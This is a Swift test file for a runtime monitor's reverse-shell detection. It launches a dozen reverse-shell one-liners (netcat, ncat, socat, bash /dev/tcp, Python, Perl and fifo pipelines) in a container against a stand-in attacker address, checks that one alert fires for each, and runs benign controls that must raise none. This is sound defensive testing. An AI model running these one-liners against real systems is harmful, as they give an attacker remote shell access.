// SPDX-License-Identifier: Apache-2.0
// The "must show" of reverse-shell detection, live: each common technique run inside a runc
// container reaches a listener on 198.51.100.1 that sends `id` and must get `uid=` back (the shell
// really worked), and the real monitor must write exactly one `reverse-shell` alert for that
// connection, attributed to the container. Benign network and pipe use must write none. Root only.

import Foundation
import XCTest

final class ReverseShellLiveTests: XCTestCase {
    static let attacker = TestNetwork.addressA
    /// Shared by every test of the class (see `ReverseShellLiveScene`); torn down in `tearDown()` (class).
    nonisolated(unsafe) private static var scene: ReverseShellLiveScene?
    /// Ports used by reverse-shell techniques, so a late alert of one is never blamed on a control.
    nonisolated(unsafe) private static var techniquePorts: Set<Int> = []

    override func setUpWithError() throws {
        try requireRoot("reverse shell live tests")
        try requireTools([(RuncContainer.runc, "runc"), (BusyboxRootfs.busybox, "busybox-static"),
                          (NetnsListener.python, "python3"), (TestNetwork.ip, "iproute2"),
                          ("/usr/bin/bash", "bash"), ("/usr/bin/perl", "perl-base"),
                          ("/usr/bin/socat", "socat"), ("/usr/bin/ncat", "ncat"), ("/usr/bin/nc.openbsd", "netcat-openbsd")])
        if Self.scene == nil { Self.scene = try ReverseShellLiveScene() }
    }

    override class func tearDown() {
        scene?.tearDown()
        scene = nil
        super.tearDown()
    }

    private var scene: ReverseShellLiveScene {
        get throws {
            guard let scene = Self.scene else { throw HarnessError("reverse shell scene not started") }
            return scene
        }
    }

    // MARK: - Techniques: each must alert exactly once

    func testBusyboxNetcatExecShell() throws {
        try assertReverseShell { ["nc", Self.attacker, "\($0)", "-e", "/bin/sh"] }
    }

    func testBusyboxNetcatExecBash() throws {
        try assertReverseShell { ["nc", Self.attacker, "\($0)", "-e", "/usr/bin/bash"] }
    }

    func testNcatExec() throws {
        try skipUnlessKnownGapsRequested("the shell answers `id` but runtime-watch raises no reverse-shell alert for `ncat -e /bin/sh` (detector miss)")
        try assertReverseShell { ["/usr/bin/ncat", Self.attacker, "\($0)", "-e", "/bin/sh"] }
    }

    func testNcatShExec() throws {
        try assertReverseShell { ["/usr/bin/ncat", "--sh-exec", "sh -i", Self.attacker, "\($0)"] }
    }

    func testSocatExec() throws {
        try assertReverseShell { ["/usr/bin/socat", "TCP:\(Self.attacker):\($0)", "EXEC:/bin/sh"] }
    }

    func testSocatExecBashOnPty() throws {
        try assertReverseShell { ["/usr/bin/socat", "TCP:\(Self.attacker):\($0)", "EXEC:/usr/bin/bash -li,pty,stderr,setsid"] }
    }

    func testBashDevTcpRedirection() throws {
        try assertReverseShell { ["/usr/bin/bash", "-c", "bash -i >& /dev/tcp/\(Self.attacker)/\($0) 0>&1"] }
    }

    func testBashDevTcpReadLoop() throws {
        try skipUnlessKnownGapsRequested("the shell never answered `id` here (listener got 0 bytes) and no alert was raised")
        try assertReverseShell { port in
            ["/usr/bin/bash", "-c", "exec 5<>/dev/tcp/\(Self.attacker)/\(port); cat <&5 | while read l; do $l 2>&5 >&5; done"]
        }
    }

    func testPythonDupAndSubprocessShell() throws {
        try assertReverseShell { port in
            ["/usr/bin/python3", "-c", """
            import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("\(Self.attacker)",\(port)));\
            os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])
            """]
        }
    }

    func testPythonPtySpawn() throws {
        try skipUnlessKnownGapsRequested("two alerts for one shell: python3 (stdio is a socket) and sh (relayed through the pty)")
        try assertReverseShell { port in
            ["/usr/bin/python3", "-c", """
            import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("\(Self.attacker)",\(port)));\
            [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")
            """]
        }
    }

    func testPerlSocketExec() throws {
        try assertReverseShell { port in
            ["/usr/bin/perl", "-e", """
            use Socket;$i="\(Self.attacker)";$p=\(port);socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\
            if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};
            """]
        }
    }

    func testMkfifoNetcatPipeline() throws {
        try skipUnlessKnownGapsRequested("flaky: the shell always answers, but 1 of 3 runs raised no alert (relay seen too late or not at all)")
        try assertReverseShell { port in
            ["sh", "-c", "rm -f /tmp/f\(port); mkfifo /tmp/f\(port); cat /tmp/f\(port) | /bin/sh -i 2>&1 | nc \(Self.attacker) \(port) > /tmp/f\(port)"]
        }
    }

    func testBusyboxTelnetFifoPipeline() throws {
        try skipUnlessKnownGapsRequested("two alerts: sh (relayed) and the `id` it runs (busybox exe, same relayed stdio)")
        try assertReverseShell { port in
            ["sh", "-c", "rm -f /tmp/t\(port); mkfifo /tmp/t\(port); telnet \(Self.attacker) \(port) < /tmp/t\(port) | /bin/sh > /tmp/t\(port) 2>&1"]
        }
    }

    // MARK: - Benign controls: none may alert

    func testBenignPortCheckDoesNotAlert() throws {
        try assertNoReverseShell(listening: true) { port in
            let check = try self.scene.container.exec(["/usr/bin/nc.openbsd", "-z", "-w", "2", Self.attacker, "\(port)"], timeout: .seconds(10))
            XCTAssertEqual(check.status, 0, "port check reached the listener: \(check)")
        }
    }

    func testBenignPlainNetcatClientDoesNotAlert() throws {
        try assertNoReverseShell(listening: true) { port in
            let client = try self.scene.container.exec(["sh", "-c", "echo hi | nc \(Self.attacker) \(port)"], timeout: .seconds(10))
            XCTAssertFalse(client.timedOut, "\(client)")
            XCTAssertTrue(client.stdout.hasPrefix("id"), "the client printed what the listener sent: \(client)")
        }
    }

    func testBenignShellPipelineDoesNotAlert() throws {
        try assertNoReverseShell(listening: false) { _ in
            let run = try self.scene.container.exec(["sh", "-c", "echo a | cat | wc -c"], timeout: .seconds(10))
            XCTAssertEqual(run.stdout.trimmingCharacters(in: .whitespacesAndNewlines), "2", "\(run)")
        }
    }

    func testBenignShellOnUnixSocketPairDoesNotAlert() throws {
        try assertNoReverseShell(listening: false) { _ in
            let run = try self.scene.container.exec(["/usr/bin/python3", "-c", """
            import socket,subprocess
            a,b=socket.socketpair()
            p=subprocess.Popen(["/bin/sh"],stdin=b,stdout=b,stderr=b)
            b.close()
            a.sendall(b"id\\nexit\\n")
            a.settimeout(5)
            out=b""
            while len(out)<65536:
                c=a.recv(4096)
                if not c: break
                out+=c
            p.wait(5)
            print(out.decode())
            """], timeout: .seconds(15))
            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell on the unix socket ran id: \(run)")
        }
    }

    func testBenignDownloadPipedToShellWithFileOutputDoesNotAlert() throws {
        try skipUnlessKnownGapsRequested("false positive: the outer `sh -c` running `python3 … | sh > file` is reported as relayed")
        try assertNoReverseShell(listening: true) { port in
            let fetch = #"import socket;s=socket.create_connection(("\#(Self.attacker)",\#(port)),5);print(s.recv(100).decode().strip())"#
            let run = try self.scene.container.exec(["sh", "-c", "/usr/bin/python3 -c '\(fetch)' | sh > /tmp/out\(port) 2>&1; cat /tmp/out\(port)"],
                                                    timeout: .seconds(15))
            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the downloaded `id` ran with output to a file: \(run)")
        }
    }

    func testBenignPythonPlainRequestDoesNotAlert() throws {
        try assertNoReverseShell(listening: true) { port in
            let request = #"import socket;s=socket.create_connection(("\#(Self.attacker)",\#(port)),5);s.sendall(b"GET / HTTP/1.0\r\n\r\n");print(s.recv(100).decode().strip())"#
            let run = try self.scene.container.exec(["/usr/bin/python3", "-c", request], timeout: .seconds(15))
            XCTAssertEqual(run.stdout.trimmingCharacters(in: .whitespacesAndNewlines), "id", "\(run)")
        }
    }

    // MARK: - Helpers

    /// Techniques and controls the monitor does not yet get right (see the reason) run only when
    /// RW_REVERSE_SHELL_KNOWN_GAPS=1, so they document the gap without breaking CI.
    /// - Throws: `XCTSkip` naming the gap when the variable is not set.
    private func skipUnlessKnownGapsRequested(_ gap: String) throws {
        guard ProcessInfo.processInfo.environment["RW_REVERSE_SHELL_KNOWN_GAPS"] == "1" else {
            throw XCTSkip("known gap, run with RW_REVERSE_SHELL_KNOWN_GAPS=1: \(gap)")
        }
    }

    /// Starts a listener that sends `id`, runs `command(port)` detached in the container, requires
    /// `uid=` back, then requires exactly one `reverse-shell` alert for that port (waiting up to 10 s
    /// for the first and 3 s more, past the 2 s launch grace, for any duplicate), attributed to the
    /// container and the listener's address.
    private func assertReverseShell(file: StaticString = #filePath, line: UInt = #line,
                                    _ command: (UInt16) -> [String]) throws {
        let scene = try self.scene
        let listener = try scene.network.startListener(sending: "id", timeout: .seconds(10))
        let port = Int(listener.port)
        Self.techniquePorts.insert(port)
        let argv = command(listener.port)
        let output = scene.scratch.at("technique-\(port).out")
        try scene.container.execDetached(argv, outputPath: output)
        let result = try listener.result()
        XCTAssertTrue(result.received.contains("uid=0(root)"),
                      "the shell answered `id` (\(argv)): \(result.received.debugDescription) output: \(CommandRunner.readCapped(output))",
                      file: file, line: line)

        let forPort: ([EndToEndAlert]) -> [EndToEndAlert] = { $0.filter { $0.remotePort == port } }
        _ = try scene.monitor.waitForAlerts(timeout: .seconds(10)) { !forPort($0.filter { $0.ruleID == "reverse-shell" }).isEmpty }
        Thread.sleep(forTimeInterval: 3)
        let alerts = forPort(try scene.reverseShellAlerts())
        XCTAssertEqual(alerts.count, 1, "reverse-shell alerts for port \(port) (\(argv)):\n"
                       + alerts.map(\.reverseShellSummary).joined(separator: "\n") + "\nlog tail:\n\(scene.monitor.log.suffix(1500))",
                       file: file, line: line)
        for alert in alerts {
            XCTAssertEqual(alert.containerID, scene.shortContainerID, "container.id: \(alert.reverseShellSummary)", file: file, line: line)
            XCTAssertEqual(alert.remoteAddress, Self.attacker, "fd.rip: \(alert.reverseShellSummary)", file: file, line: line)
        }
        print("reverse-shell technique \(argv.joined(separator: " ")) → alerts=\(alerts.count) "
              + alerts.map(\.reverseShellSummary).joined(separator: " | "))
    }

    /// Runs `body` (with a listener's port when `listening`, else 0), waits 4 s (the launch grace
    /// plus the descriptor re-check) and requires no new `reverse-shell` alert apart from late ones
    /// of earlier technique tests (recognised by their port).
    private func assertNoReverseShell(listening: Bool, file: StaticString = #filePath, line: UInt = #line,
                                      _ body: (UInt16) throws -> Void) throws {
        let scene = try self.scene
        let before = try scene.reverseShellAlerts().count
        let listener = listening ? try scene.network.startListener(sending: "id", timeout: .seconds(4)) : nil
        try body(listener?.port ?? 0)
        if let listener { _ = try? listener.result() }   // a port check resets the connection: no result to read
        Thread.sleep(forTimeInterval: 4)
        let fresh = try scene.reverseShellAlerts().dropFirst(before).filter { !Self.techniquePorts.contains($0.remotePort ?? -1) }
        XCTAssertEqual(fresh.count, 0, "benign activity raised reverse-shell alerts:\n" + fresh.map(\.reverseShellSummary).joined(separator: "\n"),
                       file: file, line: line)
    }
}
